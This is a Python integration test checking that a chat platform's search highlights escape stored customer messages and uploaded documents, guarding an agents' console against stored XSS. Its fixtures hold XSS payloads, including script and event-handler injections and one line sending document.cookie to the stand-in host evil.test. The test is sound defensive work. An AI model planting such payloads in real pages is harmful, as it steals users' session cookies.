"""Search `highlight` is HTML a console may render: stored text comes back escaped, the only tags are our <b>/</b>.

A customer's message (or an uploaded document) carrying markup must not turn into live HTML in whoever renders the
highlight (stored XSS into the agents' console).
"""

from __future__ import annotations

import re

from tests.support.platform import platform
from tests.support.plugin import wait_for

PAYLOAD = 'pizza <script>alert(1)</script> and <img src=x onerror="alert(2)"> &amp; margherita'
DOC = (
    "Opening hours.\n\nOur pizza oven <b onmouseover=alert(3)>closes</b> at ten. "
    "<script>document.location='//evil.test/'+document.cookie</script> margherita is the favourite."
)


def _only_our_tags(highlight: str) -> None:
    tags = re.findall(r"<[^>]*>", highlight)
    assert tags and set(tags) <= {"<b>", "</b>"}, highlight
    assert "<script" not in highlight and "<img" not in highlight
    assert "&lt;" in highlight, highlight  # the stored markup is shown, as text


async def test_highlight_escapes_stored_text(stack, committed_db, redis, tmp_path):
    async with platform(stack, tmp_path) as p:
        p.start_worker("chat")  # its outbox relay publishes the stored messages on search.index.v1
        p.start_worker("search")
        t = await p.tenant("Xss")
        r = await p.gw.patch(f"/api/v1/tenants/{t.tenant_id}", headers=t.headers, json={"buffer_enabled": False})
        assert r.status_code == 200, r.text
        r = await p.gw.post("/api/v1/threads", headers=t.headers, json={"message": PAYLOAD})
        assert r.status_code == 201, r.text
        r = await p.gw.post(
            "/api/v1/documents", headers=t.headers, files={"file": ("hours.txt", DOC.encode(), "text/plain")}
        )
        assert r.status_code == 202, r.text
        doc_id = r.json()["id"]

        async def doc_ready() -> bool:
            d = await p.gw.get(f"/api/v1/documents/{doc_id}", headers=t.headers)
            return d.json()["status"] == "ready"

        async def found() -> dict | None:
            s = await p.gw.post(
                "/api/v1/search",
                headers=t.headers,
                json={"query": "pizza margherita", "mode": "keyword", "sources": ["messages", "documents"]},
            )
            assert s.status_code == 200, s.text
            got = s.json()["results"]
            sources = {x["source"] for x in got}
            return s.json() if {"messages", "documents"} <= sources else None

        await wait_for(doc_ready, timeout=60, interval=0.3)
        answer = await wait_for(found, timeout=60, interval=0.3)
        for mode in ("keyword", "hybrid"):
            s = await p.gw.post(
                "/api/v1/search", headers=t.headers, json={"query": "pizza margherita", "mode": mode, "limit": 20}
            )
            assert s.status_code == 200, s.text
            results = s.json()["results"]
            assert results
            for res in results:
                if "<" in res["text"]:  # the stored text itself is returned as text (JSON), unchanged
                    _only_our_tags(res["highlight"])
        # the text field keeps what was stored; the highlight never carries its markup live
        msg = next(x for x in answer["results"] if x["source"] == "messages" and x["text"] == PAYLOAD)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in msg["highlight"], msg["highlight"]
        assert "<b>pizza</b>" in msg["highlight"] and "&amp;amp;" in msg["highlight"]
        doc = next(x for x in answer["results"] if x["source"] == "documents")
        assert "&lt;b onmouseover=alert(3)&gt;" in doc["highlight"], doc["highlight"]
